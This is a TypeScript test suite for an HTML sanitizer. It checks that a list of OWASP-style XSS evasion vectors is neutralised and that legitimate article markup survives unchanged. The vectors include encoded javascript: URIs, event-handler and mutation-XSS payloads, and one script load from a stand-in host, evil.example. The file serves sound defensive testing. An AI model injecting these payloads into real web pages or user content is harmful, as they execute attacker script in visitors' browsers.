import { parseFragment, textOf } from './dom';
import { sanitizeHtml } from './sanitize';

/** Filter-evasion vectors in the style of the OWASP XSS cheat sheet, plus mutation-XSS and parser-confusion cases. */
const XSS_VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(1);">',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC=" &#14;  javascript:alert(1);">',
  '<a href="java\0script:alert(1)">x</a>',
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<BODY ONLOAD=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href="java\nscript:alert(1)">click</a>',
  '<a href="  javascript:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="javascript&colon;alert(1)">click</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action=javascript:alert(1)><input type=submit></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<p STYLE="behavior: url(xss.htc)">x</p>',
  '<style>@import "javascript:alert(1)";</style>',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<body><a href="#" onmouseover="alert(1)">x</a></body>',
  '<input onfocus=alert(1) autofocus>',
  '<img """><script>alert(1)</script>">',
  '<<SCRIPT>alert(1);//<</SCRIPT>',
  '<img src="x" alt="x" ONERROR="alert(1)"/>',
  '<xmp><script>alert(1)</script></xmp>',
  '<textarea></textarea><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<a href="https://ok.example" onclick="alert(1)" style="color:red">ok</a>',
  '<blockquote cite="javascript:alert(1)">q</blockquote>',
  '<template><script>alert(1)</script></template>',
  '<span onpointerenter=alert(1)>hover</span>',
];

/** Decodes entities the way a browser would read the markup, so encoded "javascript:" is caught too. */
function decoded(html: string): string {
  return html
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)));
}

describe('sanitizeHtml', () => {
  it.each(XSS_VECTORS)('neutralises %s', (vector) => {
    const out = sanitizeHtml(vector);
    const flat = decoded(out).replace(/[\s\0]+/g, '');
    expect(out).not.toMatch(/<script/i);
    expect(out).not.toMatch(/\son\w+\s*=/i);
    expect(flat).not.toMatch(/javascript:|vbscript:|data:/i);
    expect(out).not.toMatch(/\sstyle\s*=/i);
    expect(out).not.toMatch(/<(iframe|object|embed|svg|math|form|input|button|base|meta|link|style|body|template)\b/i);
    // What remains must parse to the same thing again: no mutation on a second pass.
    expect(sanitizeHtml(out)).toBe(out);
  });

  it('drops the contents of script, style and other raw-text elements, keeps other text', () => {
    expect(sanitizeHtml('<p>a</p><script>var secret = 1;</script><style>p{}</style><p>b</p>')).toBe('<p>a</p><p>b</p>');
    expect(sanitizeHtml('<custom-tag>kept text</custom-tag>')).toBe('kept text');
    expect(textOf(parseFragment(sanitizeHtml('<svg><text>drawn</text></svg>ok')))).toBe('ok');
  });

  const SAME = [
    '<h1>Title</h1><h2>Sub</h2><h3>a</h3><h4>b</h4><h5>c</h5><h6>d</h6>',
    '<p>Text with <strong>strong</strong>, <b>b</b>, <em>em</em>, <i>i</i>, <u>u</u>, <s>s</s>, <del>del</del>, <ins>ins</ins>, H<sub>2</sub>O, x<sup>2</sup>, <mark>mark</mark>, <code>code</code>, <abbr title="HyperText">HTML</abbr>.</p>',
    '<ul><li>One<ul><li>Nested<ol><li>Deep</li></ol></li></ul></li><li>Two</li></ul>',
    '<ol start="5" reversed><li>Five</li><li>Four</li></ol>',
    '<table><caption>Cap</caption><thead><tr><th scope="col">A</th><th colspan="2">B</th></tr></thead><tbody><tr><td rowspan="2">1</td><td>2</td><td>3</td></tr></tbody><tfoot><tr><td>f</td></tr></tfoot></table>',
    '<figure><img src="https://cdn.example.com/a.jpg" alt="A cat" width="800" height="600" loading="lazy" /><figcaption>A <em>cat</em></figcaption></figure>',
    '<blockquote cite="https://example.com/source"><p>Quote</p><cite>Someone</cite></blockquote>',
    '<pre><code>if (a &lt; b) { return; }</code></pre>',
    '<p>Line one<br />Line two</p><hr />',
    '<div><span>wrapped</span></div>',
    '<p><a href="https://example.com/x?a=1&amp;b=2" title="T">abs</a> <a href="/relative/path">rel</a> <a href="#frag">frag</a> <a href="mailto:a@example.com">mail</a> <a href="tel:+123">tel</a></p>',
    '<p>Unicode: 日本語 עברית العربية 😀 and &lt;escaped&gt; &amp; text</p>',
  ];

  it.each(SAME)('keeps legitimate markup unchanged: %s', (html) => {
    expect(sanitizeHtml(html)).toBe(html);
  });

  it('adds rel="noopener noreferrer" to target=_blank links and keeps other rel values', () => {
    expect(sanitizeHtml('<a href="https://x.example" target="_blank">x</a>')).toBe(
      '<a href="https://x.example" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(sanitizeHtml('<a href="https://x.example" rel="nofollow" target="_BLANK">x</a>')).toBe(
      '<a href="https://x.example" rel="nofollow noopener noreferrer" target="_blank">x</a>',
    );
    expect(sanitizeHtml('<a href="/x" target="_self">x</a>')).toBe('<a href="/x">x</a>');
  });

  it('changes nothing when it sanitises its own output again (every save sanitises the whole article)', () => {
    for (const html of ['<a href="https://x.example" target="_blank">x</a>', '<a target="_blank" rel="nofollow" href="/y">y</a>']) {
      const once = sanitizeHtml(html);
      expect(sanitizeHtml(once)).toBe(once);
    }
  });

  it('drops invalid attribute values instead of passing them through', () => {
    expect(sanitizeHtml('<img src="/a.png" alt="" width="100%" height="50" loading="sometimes">')).toBe('<img src="/a.png" alt="" height="50" />');
    expect(sanitizeHtml('<table><tr><th scope="nonsense" colspan="x">h</th></tr></table>')).toBe('<table><tr><th>h</th></tr></table>');
    expect(sanitizeHtml('<ol start="abc"><li>x</li></ol>')).toBe('<ol><li>x</li></ol>');
    expect(sanitizeHtml('<p class="x" id="y" data-x="1" dir="rtl">p</p>')).toBe('<p>p</p>');
  });

  it('removes images whose only source was unsafe', () => {
    expect(sanitizeHtml('<p>a<img src="javascript:alert(1)" alt="x">b</p>')).toBe('<p>ab</p>');
    expect(sanitizeHtml('<img src="data:image/png;base64,AAAA" alt="x">')).toBe('');
  });
});
